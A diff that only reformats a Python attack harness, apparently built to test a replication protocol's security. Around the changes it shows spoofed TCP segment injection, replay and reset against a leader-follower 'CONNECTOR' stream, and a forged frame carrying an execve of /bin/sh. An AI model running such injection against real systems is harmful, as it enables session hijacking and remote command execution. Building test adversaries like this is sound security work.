@@ -49,7 +49,8 @@ import select
 import socket
 import sys
 import time
-from typing import Any, Callable
+from collections.abc import Callable
+from typing import Any
 
 ETH_P_ALL = 0x0003
 SOL_PACKET = 263
@@ -147,11 +148,19 @@ class Stream:
         if IP not in pkt or TCP not in pkt:
             return None
         ip, tcp = pkt[IP], pkt[TCP]
-        if (ip.src == self.leader and ip.dst == self.follower and tcp.sport == self.port
-                and (self.fport is None or tcp.dport == self.fport)):
+        if (
+            ip.src == self.leader
+            and ip.dst == self.follower
+            and tcp.sport == self.port
+            and (self.fport is None or tcp.dport == self.fport)
+        ):
             return "lf"
-        if (ip.src == self.follower and ip.dst == self.leader and tcp.dport == self.port
-                and (self.fport is None or tcp.sport == self.fport)):
+        if (
+            ip.src == self.follower
+            and ip.dst == self.leader
+            and tcp.dport == self.port
+            and (self.fport is None or tcp.sport == self.fport)
+        ):
             return "fl"
         return None
 
@@ -189,8 +198,11 @@ class Stream:
 def _whole_frame(payload: bytes) -> bool:
     """Whether a segment carries exactly one CONNECTOR frame (header 24 bytes,
     payload length at bytes 20-24, a 32-byte tag)."""
-    return (len(payload) >= 56 and payload[:4] == b"DMVX"
-            and 24 + int.from_bytes(payload[20:24], "big") + 32 == len(payload))
+    return (
+        len(payload) >= 56
+        and payload[:4] == b"DMVX"
+        and 24 + int.from_bytes(payload[20:24], "big") + 32 == len(payload)
+    )
 
 
 def forged_frame(sender: int, receiver: int) -> bytes:
@@ -211,8 +223,18 @@ def forged_frame(sender: int, receiver: int) -> bytes:
     return writer.encode(Entry("0", 1, Call("execve", ("/bin/sh", ("/bin/sh",), None)), EntryKind.FULL, Outcome(0)))
 
 
-def stream_attack(kind: str, towards: str, iface: str, leader: str, follower: str, port: int, wait: float,
-                  tries: int, deadline: float, quiet: float = 0.02) -> None:
+def stream_attack(
+    kind: str,
+    towards: str,
+    iface: str,
+    leader: str,
+    follower: str,
+    port: int,
+    wait: float,
+    tries: int,
+    deadline: float,
+    quiet: float = 0.02,
+) -> None:
     """Forge, replay or reset on the CONNECTOR stream, injecting segments
     that travel ``towards`` the leader (spoofing the follower) or a follower
     (spoofing the leader)."""
@@ -251,8 +273,13 @@ def stream_attack(kind: str, towards: str, iface: str, leader: str, follower: st
         # seconds, so both sides' numbers are current and neither is about
         # to use them. If the stream is still open 0.3 s after a try, a real
         # segment won the race: try again.
-        if (now < armed_at or attempts >= tries or now - last_seen < quiet or stream.closed
-                or (last_try is not None and now - last_try < 0.3)):
+        if (
+            now < armed_at
+            or attempts >= tries
+            or now - last_seen < quiet
+            or stream.closed
+            or (last_try is not None and now - last_try < 0.3)
+        ):
             continue
         frames = stream.frames[way]
         if (kind == "replay" and not frames) or stream.fport is None or len(stream.mac) < 2:
@@ -269,8 +296,18 @@ def stream_attack(kind: str, towards: str, iface: str, leader: str, follower: st
             # Replay: the first authentic frame this side sent (its hello),
             # long since accepted by the receiver.
             payload = forged_frame(sender, receiver) if kind == "forge" else frames[0]
-            segment = TCP(sport=sport, dport=dport, seq=seq, ack=stream.next_seq(back), flags="PA",
-                          window=stream.window[way], options=stream.options[way]) / payload
+            segment = (
+                TCP(
+                    sport=sport,
+                    dport=dport,
+                    seq=seq,
+                    ack=stream.next_seq(back),
+                    flags="PA",
+                    window=stream.window[way],
+                    options=stream.options[way],
+                )
+                / payload
+            )
         send.send(bytes(Ether(src=src, dst=dst) / IP(src=src_ip, dst=dst_ip) / segment))
         last_try = time.monotonic()
         emit(event="injected", time=last_try, attempt=attempts, seq=seq, towards=towards)
@@ -284,8 +321,12 @@ def main(argv: list[str] | None = None) -> int:
     parser.add_argument("--leader", default="")
     parser.add_argument("--follower", default="")
     parser.add_argument("--port", type=int, help="the leader CONNECTOR's port, drawn per run (forge, replay, reset)")
-    parser.add_argument("--towards", choices=("leader", "follower"), default="leader",
-                        help="which CONNECTOR receives the injected segments")
+    parser.add_argument(
+        "--towards",
+        choices=("leader", "follower"),
+        default="leader",
+        help="which CONNECTOR receives the injected segments",
+    )
     parser.add_argument("--server", default="", help="IP:PORT of the served program (exploit)")
     parser.add_argument("--wait", type=float, default=0.3, help="seconds to let the run get going")
     parser.add_argument("--tries", type=int, default=5)
@@ -302,8 +343,18 @@ def main(argv: list[str] | None = None) -> int:
             time.sleep(args.wait)
             exploit(server, args.timeout)
         else:
-            stream_attack(args.kind, args.towards, args.iface, args.leader, args.follower, args.port, args.wait,
-                          args.tries, deadline, args.quiet)
+            stream_attack(
+                args.kind,
+                args.towards,
+                args.iface,
+                args.leader,
+                args.follower,
+                args.port,
+                args.wait,
+                args.tries,
+                deadline,
+                args.quiet,
+            )
 
     return run_reported(work)
 
